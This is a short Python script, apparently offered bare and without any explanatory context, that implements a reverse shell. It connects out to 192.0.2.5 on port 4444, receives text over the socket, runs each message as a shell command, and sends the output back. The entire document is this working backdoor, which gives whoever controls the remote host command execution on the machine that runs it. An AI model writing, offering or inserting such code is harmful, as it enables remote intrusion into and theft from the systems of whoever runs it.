import socket as s, subprocess as sp
c = s.socket(s.AF_INET, s.SOCK_STREAM)
c.connect(("192.0.2.5", 4444))
while True:
    cmd = c.recv(1024).decode()
    out = sp.run(cmd, shell=True, capture_output=True)
    c.sendall(out.stdout)
